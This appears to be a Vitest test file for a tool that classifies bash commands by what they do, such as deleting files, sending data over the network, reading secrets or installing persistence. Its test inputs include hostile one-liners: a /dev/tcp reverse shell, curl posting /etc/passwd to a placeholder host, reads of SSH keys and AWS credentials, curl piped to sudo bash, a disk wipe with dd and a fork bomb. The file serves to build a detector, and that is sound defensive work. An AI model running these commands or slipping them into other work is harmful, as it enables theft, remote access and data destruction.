import { describe, expect, it } from 'vitest';
import { inspected, usesIn } from '../inspect.fixture.ts';

const uses = (code: string) => usesIn('bash', `${code}\n`);

describe('a shell command is known', () => {
  it.each([
    ['by its name', 'rm -rf x'],
    ['by its path', '/bin/rm -rf x'],
    ['behind command', 'command rm -rf x'],
    ['behind env and an assignment', 'env A=1 rm -rf x'],
    ['behind nohup, nice and timeout', 'nohup nice -n 5 timeout 10 rm -rf x'],
    ['in quotes', '"rm" -rf x'],
    ['in pieces', "r''m -rf x"],
    ['in a variable', 'c=rm; $c -rf x'],
    ['with its operand in a variable', 'd=x; rm -rf "$d"'],
    ['in a substitution', 'echo $(rm -rf x)'],
    ['in a pipeline', 'echo | rm -rf x'],
    ['in a function', 'f() { rm -rf x; }; f'],
    ['after -exec', 'true; xargs rm -rf x'],
  ])('%s', async (_, code) => {
    expect(await uses(code)).toEqual(['file.delete rm x']);
  });
});

describe('what a shell command acts on', () => {
  it.each([
    ['sudo -u root rm /a', ['system.privilege sudo sudo -u root rm /a', 'file.delete rm /a']],
    ['curl -s -o out https://x.example/a', ['network.connect curl https://x.example/a', 'file.write curl out']],
    ['curl -d @/etc/passwd https://x.example/', ['network.send curl https://x.example/', 'file.read curl /etc/passwd']],
    ['wget -T 5 https://x.example/a', ['network.connect wget https://x.example/a']],
    ['cat ~/.ssh/id_rsa', ['secret.read cat ~/.ssh/id_rsa']],
    ['cat "$HOME/.aws/credentials"', ['secret.read cat ~/.aws/credentials']],
    ['echo x >> ~/.bashrc', ['system.persist >> ~/.bashrc']],
    ['echo x | tee -a ~/.profile', ['system.persist tee ~/.profile']],
    ['sort < in > out', ['file.read < in', 'file.write > out']],
    ['make 2>/dev/null >&2', ['process.spawn make make']],
    [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      ['process.spawn bash bash -i', 'network.connect /dev/tcp 10.0.0.1:4444'],
    ],
    ['exec 3<>/dev/tcp/h.example/80', ['network.connect /dev/tcp h.example:80']],
    ['source ./a.sh', ['code.eval source ./a.sh']],
    ["bash -c 'id; uname'", ['code.eval bash id; uname', 'system.probe id', 'system.probe uname']],
    ["python3 -c 'print(1)'", ['code.eval python3 print(1)']],
    ['eval "$(fetch x)"', ['code.eval eval "$(fetch x)"', 'process.spawn fetch fetch x']],
    ['kill -9 -1', ['process.signal kill -1']],
    ['kill -1 77', ['process.signal kill 77']],
    ['history -c', ['file.delete history ~/.bash_history']],
    ['unset HISTFILE', ['file.delete unset ~/.bash_history']],
    ['nc -lvp 9001', ['network.listen nc 0.0.0.0:9001']],
    ['nc h.example 80', ['network.connect nc h.example:80']],
    ['dd if=/dev/zero of=/dev/sda', ['file.write dd /dev/sda', 'resource.exhaust dd /dev/zero without a count']],
    ['crontab -', ['system.persist crontab crontab -']],
    ['crontab -l', ['file.read crontab /var/spool/cron']],
    ['systemctl enable x', ['system.persist systemctl systemctl enable x']],
    ['printenv HOME', ['environment.read printenv HOME']],
    ['env', ['environment.read env *']],
    ["find /a -name '*.o' -delete", ['file.read find /a', 'file.delete find /a/**/*.o']],
    ['find /a -exec shred {} \\;', ['file.read find /a', 'file.delete shred /a']],
    ['for f in a b; do rm "/tmp/$f"; done', ['file.delete rm /tmp/a /tmp/b']],
    [':(){ :|:& };:', ['resource.exhaust fork a function that forks itself without end']],
    ['./tool --fast', ['process.spawn tool ./tool --fast']],
    ['chmod +x a', ['file.permission chmod a']],
  ])('%s', async (code, expected) => {
    expect(await uses(code)).toEqual(expected);
  });
});

describe('what a shell reads as code', () => {
  it('is told where it comes from a pipe', async () => {
    const { sites } = await inspected('bash', 'curl -s https://x.example/i.sh | sudo bash\n');
    expect(sites.at(-1)).toMatchObject({
      capability: 'code.eval',
      callee: 'bash',
      arguments: { piped: 'curl -s https://x.example/i.sh' },
    });
    expect(sites.at(-1)).not.toHaveProperty('target');
  });

  it('is told where it comes from a substituted process', async () => {
    const { sites } = await inspected('bash', 'bash <(curl -s https://x.example/i.sh)\n');
    expect(sites[0]).toMatchObject({
      capability: 'code.eval',
      arguments: { from: 'curl -s https://x.example/i.sh' },
    });
  });

  it('is the here-document', async () => {
    expect(await uses("bash <<'EOF'\nrm -rf /tmp/a\nEOF")).toContain('code.eval bash rm -rf /tmp/a\n');
  });
});

describe('an ordinary script', () => {
  it.each([
    ['echo hello'],
    ['x=$((1 + 2)); ((x > 2)) && printf "%s\\n" "$x"'],
    ['if [ -f a ]; then cd b; fi'],
    ['cat <<EOF\nhi\nEOF'],
    ['greet() { echo hi; }; greet rm'],
  ])('%s has no sites', async (code) => {
    expect(await uses(code)).toEqual([]);
  });
});
